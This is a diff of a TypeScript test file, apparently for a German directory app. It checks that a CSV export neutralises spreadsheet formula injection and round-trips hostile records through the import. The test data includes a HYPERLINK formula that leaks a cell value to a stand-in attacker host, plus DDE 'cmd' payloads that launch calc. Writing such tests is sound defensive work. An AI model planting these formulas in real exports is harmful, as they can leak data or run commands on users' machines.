@@ -9,10 +9,10 @@ import { contractValidator } from './contract-schema.js';
 
 const FORMULAS = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")',
-  '=cmd|\' /C calc\'!A0',
-  '+cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
   '-1+1',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   ' =1+1',
@@ -35,7 +35,8 @@ function hostileActor(index: number): Actor {
     offers: [],
     address: { street: text(3), city: text(4), postalCode: '01069', ags: '14612' },
     location: { lat: 51.05, lon: 13.74, precision: 'address' },
-    website: index % 3 === 0 ? HOSTILE_URLS[index % HOSTILE_URLS.length]! : `https://example.org/${index}`,
+    website:
+      index % 3 === 0 ? HOSTILE_URLS[index % HOSTILE_URLS.length]! : `https://example.org/${index}`,
     email: index % 3 === 1 ? text(5) : `kontakt-${index}@example.org`,
     updatedAt: '2026-10-01T09:00:00+02:00',
   };
@@ -46,7 +47,11 @@ describe('exportActorsCsv', () => {
   const csv = exportActorsCsv(hostileActors);
 
   it('writes UTF-8 with a BOM, ";" and CRLF for German Excel, with the import’s German headers', () => {
-    expect(csv.startsWith('\uFEFFName;Kategorie;Art;Themen;Straße;PLZ;Ort;AGS;Breitengrad;Längengrad;Genauigkeit;Webseite;E-Mail;Beschreibung;Angebote;ID;Aktualisiert\r\n')).toBe(true);
+    expect(
+      csv.startsWith(
+        '\uFEFFName;Kategorie;Art;Themen;Straße;PLZ;Ort;AGS;Breitengrad;Längengrad;Genauigkeit;Webseite;E-Mail;Beschreibung;Angebote;ID;Aktualisiert\r\n',
+      ),
+    ).toBe(true);
     expect(csv.endsWith('\r\n')).toBe(true);
   });
 
@@ -58,7 +63,8 @@ describe('exportActorsCsv', () => {
     const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
     expect(dangerous).toEqual([]);
     // Each formula reached a cell, marked as text.
-    for (const formula of FORMULAS.filter((f) => /^[=+\-@\t\r]/.test(f))) expect(cells).toContain(`'${formula}`);
+    for (const formula of FORMULAS.filter((f) => /^[=+\-@\t\r]/.test(f)))
+      expect(cells).toContain(`'${formula}`);
   });
 
   it('neutralises exactly the cells a spreadsheet would evaluate', () => {
@@ -73,18 +79,26 @@ describe('exportActorsCsv', () => {
 
   it('round-trips every hostile actor the import accepts through CSV unchanged', () => {
     const knownTopics = new Set(topics.map((topic) => topic.id));
-    const json = parseImport(new TextEncoder().encode(JSON.stringify(hostileActors)), { fileName: 'a.json', knownTopics });
+    const json = parseImport(new TextEncoder().encode(JSON.stringify(hostileActors)), {
+      fileName: 'a.json',
+      knownTopics,
+    });
     // Sanity: the corpus has both kinds, values the import takes and values it refuses.
     expect(json.actors.length).toBeGreaterThan(10);
     expect(json.rejected.length).toBeGreaterThan(10);
-    const again = parseImport(new TextEncoder().encode(exportActorsCsv(json.actors)), { fileName: 'a.csv', knownTopics });
+    const again = parseImport(new TextEncoder().encode(exportActorsCsv(json.actors)), {
+      fileName: 'a.csv',
+      knownTopics,
+    });
     expect(again.rejected).toEqual([]);
     expect(again.actors).toEqual(json.actors);
   });
 
   it('writes English headers, "," and decimal points with language en', () => {
     const english = exportActorsCsv([hostileActors[20]!], { language: 'en' });
-    expect(english.split('\r\n')[0]).toBe('\uFEFFName,Category,Subtype,Topics,Street,Postal code,City,AGS,Latitude,Longitude,Precision,Website,Email,Description,Offers,ID,Updated');
+    expect(english.split('\r\n')[0]).toBe(
+      '\uFEFFName,Category,Subtype,Topics,Street,Postal code,City,AGS,Latitude,Longitude,Precision,Website,Email,Description,Offers,ID,Updated',
+    );
     expect(english).toContain(',51.05,13.74,address,');
   });
 });
